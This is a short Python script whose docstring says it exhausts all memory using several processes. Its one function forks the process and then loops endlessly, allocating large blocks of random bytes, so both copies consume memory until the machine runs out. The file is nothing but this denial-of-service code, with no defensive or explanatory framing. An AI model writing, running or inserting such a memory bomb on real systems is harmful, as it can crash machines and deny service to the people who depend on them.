"""Takes all the memory there is, by several processes."""

import os


def double(x):
    os.fork()
    kept = []
    while True:
        kept.append(bytearray(os.urandom(1 << 20)) * 64)
